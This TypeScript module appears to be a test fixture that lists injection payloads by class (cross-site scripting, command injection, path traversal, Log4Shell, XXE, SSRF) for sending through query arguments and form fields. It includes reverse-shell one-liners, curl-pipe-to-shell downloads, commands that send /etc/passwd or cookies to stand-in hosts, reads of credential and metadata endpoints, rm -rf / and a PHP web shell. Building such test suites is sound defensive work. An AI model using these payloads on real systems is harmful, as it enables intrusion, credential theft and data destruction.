import { INJECTED_QUERIES } from './injected-queries.ts';

/**
 * Attacks, a line each, by class. Written for these tests; none is taken from a collection. Each is sent as an argument of the
 * query and as a field of a form.
 */
export const ATTACKS: Readonly<Record<string, string>> = {
  sqlInjection: INJECTED_QUERIES,

  crossSiteScripting: String.raw`
<script>alert(7)</script>
<SCRIPT SRC=//example.test/x.js></SCRIPT>
<img src=q onerror=alert(7)>
<IMG SRC="javascript:alert('q');">
<IMG SRC=JaVaScRiPt:alert('q')>
<img """><script>alert("q")</script>">
<img src=/ onerror="alert(String.fromCharCode(81,82))">
<svg/onload=alert(7)>
<svg onload=alert${'`'}7${'`'}>
<body onload=alert('q')>
<body background="javascript:alert('q')">
<iframe src="javascript:alert(7)">
<a href="javascript:alert(7)">go</a>
<a href="jav&#x09;ascript:alert(7)">go</a>
<a href="&#106;avascript:alert(7)">go</a>
" onmouseover=alert(7) y="
' onfocus=alert(7) autofocus='
q onmouseover=alert(7)
"><script>alert(7)</script>
"><img src=q onerror=prompt(7)>
javascript:alert(7)
javascript://%0aalert(7)
';alert(7)//
'-alert(7)-'
";alert(String.fromCharCode(81))//
\";alert('q');//
</script><script>alert(7)</script>
{{constructor.constructor('alert(7)')()}}
<details open ontoggle=alert(7)>
<math><a xlink:href="javascript:alert(7)">go
<object data="javascript:alert(7)">
<embed src="data:text/html;base64,PHNjcmlwdD4=">
<meta http-equiv="refresh" content="0;url=javascript:alert('q');">
<link rel=stylesheet href="javascript:alert(7)">
<div style="width: expression(alert('q'));">
<style>@import 'javascript:alert(7)';</style>
<base href="javascript:alert(7)//">
<form action="javascript:alert(7)"><input type=submit>
<button formaction=javascript:alert(7)>go
<input onfocus=alert(7) autofocus>
<video><source onerror="alert(7)">
<marquee onstart=alert(7)>
<q onclick=alert(7)>go
data:text/html,<script>alert(7)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==
[][(![]+[])[+[]]+([![]]+[][[]])
window['alert'](7)
top["al"+"ert"](7)
eval(atob('YWxlcnQoNyk='))
alert(document.cookie)
confirm(7)
document.write('<q>')
+ADw-script+AD4-alert(7)
<svg><animate onbegin=alert(7) attributeName=q>
<isindex action=javascript:alert(7) type=image>
<img/src=q/onerror=alert(7)>
<img src=q:alert(alt) onerror=eval(src) alt=0>
<!--[if gte IE 4]><SCRIPT>alert('q');</SCRIPT><![endif]-->
<?xml-stylesheet href="javascript:alert(7)"?>
onerror=alert(7)
"onclick=alert(7)//
<select autofocus onfocus=alert(7)>
<textarea autofocus onfocus=alert(7)>
<table background="javascript:alert(7)">
<img src="q" onerror  =  "alert(7)">
<p onpointerenter=alert(7)>
%3Cscript%3Ealert(7)%3C/script%3E
\u003cscript\u003ealert(7)\u003c/script\u003e
&lt;script&gt;alert(7)&lt;/script&gt;
<scr%00ipt>alert(7)</scr%00ipt>
<a onclick="fetch('//example.test/'+document.cookie)">go</a>
<audio src onloadstart=alert(7)>
<style onload=alert(7)></style>
<iframe srcdoc="<img src=q onerror=alert(7)>"></iframe>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x">
<noscript><p title="</noscript><img src=q onerror=alert(7)>">
<img src=q onerror=window.location='//example.test'>
'};alert(7);{'
"+alert(7)+"
${'${alert(7)}'}
<x/ontouchstart=alert(7)>
<input type=image src=q onerror=alert(7)>
<xml onreadystatechange=alert(7)>
<object classid="clsid:q" onerror=alert(7)>
'"><svg onload=alert(7)>`,

  commandExecution: String.raw`
;id
|id
&&whoami
; cat /etc/passwd
| cat /etc/hosts
$(whoami)
$(cat /etc/shadow)
${'`whoami`'}
${'`id`'}
127.0.0.1; ls -la
127.0.0.1 && uname -a
127.0.0.1 | nc 192.0.2.1 4444 -e /bin/sh
x;wget http://192.0.2.9/a.sh
x;curl http://192.0.2.9/a.sh|sh
;ping -c 4 192.0.2.1
& ping -n 3 127.0.0.1 &
|| ping -c 3 127.0.0.1
;sleep 9
|sleep 9
; sleep 5 #
$(sleep 6)
/bin/cat /etc/passwd
/usr/bin/id
;/bin/bash -i
bash -i >& /dev/tcp/192.0.2.4/9001 0>&1
python -c 'import os;os.system("id")'
perl -e 'exec "/bin/sh";'
php -r 'system("id");'
;c'a't /etc/passwd
;c"a"t /etc/passwd
;c\at /etc/passwd
;cat${'${IFS}'}/etc/passwd
;cat$IFS$9/etc/passwd
;{cat,/etc/passwd}
;cat</etc/passwd
;/b?n/c?t /e??/p?sswd
;who$@ami
() { :; }; echo vulnerable
() { :;}; /bin/bash -c "id"
() { ignored; }; /usr/bin/wget http://192.0.2.3/x
;echo $HOME
; echo $PATH
;env
|printenv
;ifconfig
| netstat -an
;ps aux
;rm -rf /
; chmod 777 /tmp/x
;chmod +x /tmp/a
mkfifo /tmp/p; nc 192.0.2.2 80 < /tmp/p
;nslookup example.test
|nslookup example.test
cmd.exe /c dir
cmd /c whoami
& dir c:\
| dir c:\windows
&& type c:\boot.ini
| type %SYSTEMROOT%\win.ini
;powershell -nop -c "iex 1"
powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
Invoke-Expression (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')
||nslookup example.test
& ipconfig /all
| net user
&& systeminfo
%0Acat /etc/passwd
a%0aid
a||whoami
a;tail -n 5 /var/log/syslog
a|head -5 /etc/group
;bash -c id
;find / -name id_rsa
;curl -d @/etc/passwd http://192.0.2.1/
system('cat /etc/passwd')
exec("whoami")
<?php system($_GET['c']); ?>
;echo "PD9waHA=" | base64 -d
a;ls /
a|ls
$(ls)
ls -la
whoami
uname -a
p^i^n^g -n 1 127.0.0.1 & p"i"ng`,

  traversal: String.raw`
../../../../etc/passwd
../../../etc/shadow
..\..\..\windows\win.ini
..\..\..\..\boot.ini
..%2f..%2f..%2fetc%2fpasswd
..%252f..%252fetc%252fpasswd
%2e%2e/%2e%2e/etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
..%5c..%5cwindows%5cwin.ini
....//....//etc/passwd
....\/....\/etc/passwd
..%c0%af..%c0%afetc/passwd
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
..%u2215..%u2215etc/passwd
..;/..;/manager/html
/etc/passwd
/etc/shadow
/etc/passwd%00.jpg
../../../../etc/passwd%00.png
/proc/self/environ
/proc/version
/proc/1/cmdline
C:\boot.ini
c:/windows/win.ini
C:\Windows\System32\drivers\etc\hosts
file:///etc/passwd
file:///c:/windows/win.ini
php://filter/convert.base64-encode/resource=index.php
php://input
expect://id
zip://x.zip#y
phar://x.phar/y
/var/log/apache2/access.log
../../../var/log/nginx/error.log
../.env
../config.php
../../wp-config.php
./../../../etc/hosts
/static/../../../etc/passwd
images/../../../../etc/passwd
/././././etc/passwd
//etc//passwd
..//..//..//etc/passwd
.../.../.../etc/passwd
../../../../../../../../proc/self/status
../../../../root/.bash_history
/root/.ssh/id_rsa
../../WEB-INF/web.xml
/.htpasswd
../.htaccess
../../../../../../windows/system32/cmd.exe
\..\..\..\etc\passwd
/..\../..\../etc/passwd
..0x2f..0x2fetc/passwd/../../../etc/passwd
../../../boot.ini
/home/bob/.ssh/id_rsa
..%00/..%00/etc/passwd
netdoc:///etc/passwd
gopher://127.0.0.1:6379/_INFO
dict://127.0.0.1:11211/stat`,

  log4shell: String.raw`
${'${jndi:ldap://192.0.2.1/a}'}
${'${jndi:rmi://192.0.2.1/a}'}
${'${jndi:dns://x.example.test}'}
${'${${lower:j}ndi:ldap://x/a}'}
${'${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}'}
${'${${env:NOPE:-j}ndi:ldap://x/a}'}
${'${jndi:${lower:l}${lower:d}ap://x/a}'}
${'${${upper:j}ndi:rmi://x/a}'}
${'${j${lower:n}di:ldap://x/a}'}
${'${jnd${sys:none:-i}:ldap://x}'}
${'${${env:AWS_SECRET_ACCESS_KEY}}'}
${'${${lower:${lower:j}}ndi:ldap://x}'}
${'%24%7bjndi:ldap://x/a%7d'}
${"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}"}
${'${script:javascript:java.lang.Runtime.getRuntime().exec("id")}'}
${'${jndi:iiop://x/a}'}`,

  xmlEntities: String.raw`
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
<?xml version="1.0"?><!DOCTYPE d [<!ELEMENT d ANY><!ENTITY x SYSTEM "http://192.0.2.1/x">]><d>&x;</d>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd">%p;]>
<!ENTITY lol "lol">
<!DOCTYPE svg SYSTEM "http://192.0.2.1/x.dtd">
<xi:include href="file:///etc/passwd" parse="text"/>
<!DOCTYPE a [<!ENTITY b PUBLIC "x" "file:///etc/hosts">]>`,

  otherServers: String.raw`
http://169.254.169.254/latest/meta-data/
http://169.254.169.254/latest/meta-data/iam/security-credentials/
http://2852039166/latest/
http://0xa9fea9fe/
http://[::ffff:a9fe:a9fe]/
http://metadata.google.internal/computeMetadata/v1/
http://169.254.170.2/v2/credentials
http://192.0.2.44/shell.txt
https://203.0.113.9/r57.php
http://127.0.0.1:8080/admin
ftp://198.51.100.3/x
http://evil.example/c99.txt?
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
aced00057372
T(java.lang.Runtime).getRuntime().exec("id")
class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`,
};
